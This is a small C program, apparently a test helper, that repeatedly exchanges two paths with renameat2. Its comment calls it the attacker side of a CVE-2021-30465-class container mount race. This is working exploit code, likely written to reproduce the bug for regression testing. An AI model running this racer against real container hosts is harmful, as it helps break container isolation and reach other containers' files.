/* Swap two paths with renameat2(RENAME_EXCHANGE) as fast as it can, the
 * attacker of the CVE-2021-30465 class run inside a container whose
 * rootfs another container's mounts are made in.
 *
 *   swapper A B COUNT_FILE
 *
 * Runs until killed; every 1000 swaps it replaces COUNT_FILE (through a
 * rename, so a reader never sees it half written) with the number done
 * so far.  Built static, so it runs in a
 * busybox rootfs. */
#include <fcntl.h>
#include <stdio.h>
#include <string.h>
#include <sys/syscall.h>
#include <unistd.h>

#ifndef RENAME_EXCHANGE
#define RENAME_EXCHANGE (1 << 1)
#endif

int main(int argc, char **argv)
{
	unsigned long swaps = 0;

	if (argc != 4)
		return 2;
	for (;;) {
		if (syscall(SYS_renameat2, AT_FDCWD, argv[1], AT_FDCWD, argv[2],
			    RENAME_EXCHANGE) < 0) {
			perror("renameat2");
			return 1;
		}
		if (++swaps % 1000 == 0) {
			char buf[32], tmp[4096];
			int len = snprintf(buf, sizeof(buf), "%lu\n", swaps);
			int fd;

			snprintf(tmp, sizeof(tmp), "%s.tmp", argv[3]);
			fd = open(tmp, O_WRONLY | O_CREAT | O_TRUNC | O_CLOEXEC, 0644);
			if (fd < 0 || write(fd, buf, (size_t)len) != len || close(fd) < 0 ||
			    rename(tmp, argv[3]) < 0)
				perror(argv[3]);
		}
	}
}
